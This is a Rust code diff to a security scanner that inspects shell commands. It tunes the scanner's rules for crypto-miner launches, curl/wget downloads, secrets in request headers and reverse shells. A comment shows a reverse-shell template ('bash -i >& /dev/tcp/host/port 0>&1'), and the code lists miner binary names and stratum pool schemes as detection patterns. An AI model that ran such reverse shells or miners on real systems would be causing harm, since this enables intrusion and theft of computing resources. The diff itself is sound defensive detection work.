@@ -159,7 +159,7 @@ impl Walk<'_, '_, '_> {
                 let plain: Vec<&Value> = call.plain().collect();
                 let bare = plain.is_empty()
                     && !call.has(&["-e", "-u", "-x", "-o", "-eu", "-euo", "-ex", "+e"])
-                    && !(name == "set" && !call.arguments.is_empty());
+                    && (name != "set" || call.arguments.is_empty());
                 if name != "compgen" && (bare || call.has(&["-p"]) && name == "export")
                     || name == "declare" && call.has(&["-x", "-px", "-xp"]) && plain.is_empty()
                 {
@@ -209,9 +209,7 @@ impl Walk<'_, '_, '_> {
                         self.write(&path, input_text, input, &at);
                     }
                 }
-                if name == "sed" && call.has_letter('i')
-                    || name == "sed" && call.has(&["--in-place"])
-                {
+                if name == "sed" && (call.has_letter('i') || call.has(&["--in-place"])) {
                     let script = call.text();
                     let paths: Vec<String> =
                         call.plain().skip(1).map(|argument| argument.text.clone()).collect();
@@ -431,23 +429,36 @@ impl Walk<'_, '_, '_> {
         let text = call.text();
         let all = format!("{} {text}", call.name);
         let mention = self.passage.context == Context::InlineCode && call.arguments.is_empty();
-        if !mention && (all.contains("stratum+tcp") || all.contains("stratum+ssl"))
-            || !mention
-                && matches!(
-                    call.name.rsplit('/').next(),
-                    Some(
-                        "xmrig"
-                            | "minerd"
-                            | "cpuminer"
-                            | "cgminer"
-                            | "ethminer"
-                            | "nbminer"
-                            | "t-rex"
-                            | "lolMiner"
-                            | "xmr-stak"
-                    )
-                )
-        {
+        let searches = matches!(
+            call.name.as_str(),
+            "grep"
+                | "egrep"
+                | "rg"
+                | "pgrep"
+                | "pkill"
+                | "ps"
+                | "find"
+                | "ss"
+                | "awk"
+                | "sed"
+                | "echo"
+        );
+        let miner = matches!(
+            call.name.rsplit('/').next(),
+            Some(
+                "xmrig"
+                    | "minerd"
+                    | "cpuminer"
+                    | "cgminer"
+                    | "ethminer"
+                    | "nbminer"
+                    | "t-rex"
+                    | "lolMiner"
+                    | "xmr-stak"
+            )
+        );
+        let pool = all.contains("stratum+tcp") || all.contains("stratum+ssl");
+        if !mention && !searches && (pool || miner) {
             self.report(
                 at,
                 Match::new(&rules::RESOURCE_ABUSE, Severity::Critical, "a miner is started"),
@@ -542,10 +553,10 @@ impl Walk<'_, '_, '_> {
                 "-o" | "--output" | "-O" | "--output-document" if option != "-O" || wget => {
                     let value = take();
                     if value.text == "-" || value.text == "/dev/stdout" {
-                        to_stdout = true
+                        to_stdout = true;
                     } else {
-                        saved = Some(value.text)
-                    };
+                        saved = Some(value.text);
+                    }
                 }
                 "-O" | "--remote-name" | "-J" | "-LO" | "-sLO" | "-fsSLO" | "-OL" | "-LOs"
                 | "-fLO" | "-sSLO" | "-sO" => saved = Some("<remote-name>".to_owned()),
@@ -554,12 +565,8 @@ impl Walk<'_, '_, '_> {
                 | "--cacert" | "-x" | "--proxy" | "--resolve" | "-D" | "--dump-header" | "-P"
                 | "--directory-prefix" | "-U" | "-t" | "--tries" | "--timeout" | "-r"
                 | "--range" | "--max-redirs" | "-i"
-                    if !(option == "-i" && !wget)
-                        && !(matches!(
-                            option.as_str(),
-                            "-c" | "-x" | "-r" | "-D" | "-E" | "-P" | "-U" | "-t"
-                        ) && wget
-                            && matches!(option.as_str(), "-c" | "-x" | "-r" | "-E" | "-D")) =>
+                    if !(wget && matches!(option.as_str(), "-c" | "-x" | "-r" | "-E" | "-D"))
+                        && (wget || option != "-i") =>
                 {
                     take();
                 }
@@ -583,20 +590,20 @@ impl Walk<'_, '_, '_> {
                                 "" => {
                                     let value = take();
                                     if value.text == "-" {
-                                        to_stdout = true
+                                        to_stdout = true;
                                     } else {
-                                        saved = Some(value.text)
-                                    };
+                                        saved = Some(value.text);
+                                    }
                                 }
                                 _ => saved = Some(rest),
                             }
                         } else if !wget && option.ends_with('o') {
                             let value = take();
                             if value.text == "-" {
-                                to_stdout = true
+                                to_stdout = true;
                             } else {
-                                saved = Some(value.text)
-                            };
+                                saved = Some(value.text);
+                            }
                         } else if !wget && option.contains('O') {
                             saved = Some("<remote-name>".to_owned());
                         } else if !wget && (option.ends_with('d') || option.ends_with('F')) {
@@ -654,7 +661,8 @@ impl Walk<'_, '_, '_> {
         let mut all = sent;
         // A key in its header is how an API is used; elsewhere it is data.
         all.keys.extend(headers.keys);
-        if !matches!(classify(&address), Class::Service | Class::Installer) {
+        let own = self.skill.is_about(&host(&address).unwrap_or_default());
+        if !own && !matches!(classify(&address), Class::Service | Class::Installer) {
             all.secrets.extend(headers.secrets);
         }
         all.environment |= headers.environment;
@@ -774,10 +782,10 @@ impl Walk<'_, '_, '_> {
         let mut data = call.taint();
         let name = call.name.as_str();
         for argument in call.plain() {
-            let path = argument.text.trim_start_matches("@").trim_start_matches("file://");
+            let path = argument.text.trim_start_matches('@').trim_start_matches("file://");
             // The key that a connection is made with is used, not sent.
             if !(name == "ssh" || name == "scp" || name == "rsync" || name == "sftp")
-                || !call.value_of(&["-i"]).is_some_and(|key| key.text == argument.text)
+                || call.value_of(&["-i"]).is_none_or(|key| key.text != argument.text)
             {
                 data.add(&self.file(path));
             }
@@ -1429,7 +1437,7 @@ impl Walk<'_, '_, '_> {
                     || word.starts_with("https://")
                         && (word.contains(".git")
                             || word.contains("tarball")
-                            || word.ends_with(".tgz"))
+                            || word.rsplit('.').next() == Some("tgz"))
                     || (name == "npx" || name == "bunx")
                         && word.matches('/').count() == 1
                         && !word.starts_with(['@', '.', '-', '/', '$', '<'])
@@ -1821,7 +1829,10 @@ impl Walk<'_, '_, '_> {
         // bash -i >& /dev/tcp/host/port 0>&1
         if language == Language::Shell {
             let line = self.source.get(at.clone()).unwrap_or_default();
-            if let Some(i) = line.find("/dev/tcp/") {
+            let tied = ["-i ", "0>&1", "0<&", "<&", ">& /dev", "&> /dev", "> /dev/tcp"];
+            if let Some(i) = line.find("/dev/tcp/")
+                && tied.iter().any(|part| line.contains(part))
+            {
                 let rest = &line[i + 9..];
                 let end = rest
                     .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&'))
@@ -1959,13 +1970,7 @@ fn remote_copy(text: &str) -> String {
         return text.to_owned();
     }
     let host = text.rsplit('@').next().unwrap_or(text).split(':').next().unwrap_or_default();
-    if host.contains('.') || host.contains('$') {
-        format!("ssh://{host}")
-    } else if host.is_empty() {
-        String::new()
-    } else {
-        String::new()
-    }
+    if host.contains('.') || host.contains('$') { format!("ssh://{host}") } else { String::new() }
 }
 
 /// Takes the wrappers off a command.
@@ -2001,27 +2006,27 @@ fn unwrap(arguments: Vec<Value>, spans: Vec<Range<usize>>) -> Call {
             {
                 options_of(&call.arguments[1..], &["-n", "-o", "-i", "-e", "-a"])
             }
-            "nice" if call.arguments.len() > 1 => options_of(&call.arguments[1..], &["-n"]),
+            "nice" | "watch" if call.arguments.len() > 1 => {
+                options_of(&call.arguments[1..], &["-n"])
+            }
             "timeout" | "gtimeout" if call.arguments.len() > 2 => {
                 options_of(&call.arguments[1..], &["-s", "-k"]) + 1
             }
-            "arch" if call.arguments.len() > 2 => 1,
+            "arch" | "chroot" if call.arguments.len() > 2 => 1,
             "xargs" if call.arguments.len() > 1 => {
                 call.from_input = true;
                 options_of(&call.arguments[1..], &["-I", "-n", "-P", "-L", "-d", "-s", "-a", "-E"])
             }
-            "watch" if call.arguments.len() > 1 => options_of(&call.arguments[1..], &["-n"]),
             "parallel" if call.arguments.len() > 1 => {
                 call.from_input = true;
                 options_of(&call.arguments[1..], &["-j"])
             }
-            "chroot" if call.arguments.len() > 2 => 1,
             "sg" | "su" if call.arguments.iter().any(|a| a.text == "-c") => {
                 // su -c 'command' user: the string is a script of its own.
                 let at = call.arguments.iter().position(|a| a.text == "-c").unwrap_or(0);
                 call.arguments.drain(1..at);
                 call.spans.drain(1..at.min(call.spans.len()));
-                call.arguments[0].text = "sh".to_owned();
+                "sh".clone_into(&mut call.arguments[0].text);
                 continue;
             }
             _ => break,
